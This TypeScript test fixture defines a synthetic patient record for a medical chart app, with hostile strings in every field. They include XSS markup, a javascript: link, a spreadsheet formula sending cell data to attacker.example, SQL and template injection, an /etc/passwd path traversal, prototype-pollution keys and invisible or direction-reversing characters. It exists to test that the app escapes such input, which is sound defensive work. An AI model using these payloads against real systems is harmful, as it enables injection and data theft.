import type { ChartBuilder } from './build.ts';
import { loinc, quantity } from './codes.ts';
import type { PersonSource } from './person.ts';
import { on } from './story.ts';

/** Sets a mark that a test can look for; nothing in an app may ever run it. */
const image = '<img src=x onerror="window.hacked=true">';
const script = '</script><script>window.hacked=true</script>';
const link = 'javascript:window.hacked=true';
const formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")';
const template = '{{constructor.constructor("window.hacked=true")()}} ${window.hacked=true}';
/** Right-to-left override: what follows reads backwards, so 1.2 may look like 2.1. */
const override = '\u202E2.1\u202C';

export const hostileText: PersonSource = {
  id: 'hostile-text',
  name: `Bobby ${image}`,
  reason:
    'Every text is an attack: markup, script, formulas, template marks, odd property names and invisible characters.',
  patient: {
    identifier: [{ type: { text: `MRN${script}` }, system: link, value: `${image}10000666` }],
    active: true,
    name: [
      {
        use: 'official',
        family: `Tables${image}`,
        given: [`Bobby'); DROP TABLE patients;--`, script],
      },
    ],
    gender: 'male',
    birthDate: '1990-10-10',
    telecom: [{ system: 'url', value: link }],
    address: [{ line: [image], city: script, postalCode: formula }],
    text: {
      status: 'generated',
      div: `<div xmlns="http://www.w3.org/1999/xhtml">${image}${script}</div>`,
    },
    photo: [{ contentType: 'image/svg+xml', url: link, title: image }],
    extension: [{ url: link, valueString: script }],
  },
  fill(chart) {
    problems(chart);
    texts(chart);
    names(chart);
  },
};

function problems(chart: ChartBuilder): void {
  for (const text of [image, script, formula, template, `Pain ${override}`]) {
    chart.problem({ text, onset: '2026-01-01', more: { note: [{ text: `${script}${image}` }] } });
  }
  chart.problem({ text: '', status: image, verification: script, more: { onsetString: image } });
}

function texts(chart: ChartBuilder): void {
  chart.lab('glucose', '101', on('2026-10-01', '08:00'), {
    code: { coding: [{ system: link, code: image, display: script }], text: image },
    valueQuantity: { value: 101, unit: image, system: link, code: script },
    interpretation: [{ coding: [{ system: link, code: image, display: script }], text: image }],
    referenceRange: [{ text: `${image}${formula}`, type: { text: script } }],
    note: [{ text: `${image}\n${script}\n${template}`, authorString: image }],
    performer: [{ reference: link, display: image }],
    specimen: { reference: '../../etc/passwd', display: script },
    method: { text: image },
    bodySite: { text: script },
    device: { display: image },
    text: { status: 'generated', div: `<div>${image}<style>body{display:none}</style></div>` },
  });
  for (const text of [
    image,
    script,
    formula,
    template,
    override,
    'a\u200Bb\u0007c\uFEFF',
    '\t\n\r ',
  ]) {
    chart.observation(
      'laboratory',
      { text: 'Comment' },
      {
        effectiveDateTime: on('2026-10-01', '08:00'),
        valueString: text,
      },
    );
  }
  chart.vital('weight', '70', on('2026-10-01', '08:00'), {
    valueQuantity: quantity('70', `kg${image}`, 'kg'),
  });
  chart.observation('survey', loinc('44261-6', image, script), {
    effectiveDateTime: on('2026-10-01', '08:00'),
    valueCodeableConcept: { coding: [{ system: link, code: '__proto__', display: image }] },
    hasMember: [{ reference: link, display: image }],
  });
}

/** Codes that are also the names of properties every object has. */
function names(chart: ChartBuilder): void {
  for (const code of [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
  ]) {
    chart.observation(
      'laboratory',
      { coding: [{ system: '__proto__', code, display: code }], text: code },
      {
        effectiveDateTime: on('2026-10-02', '08:00'),
        valueQuantity: { value: 1, unit: code },
      },
    );
  }
}
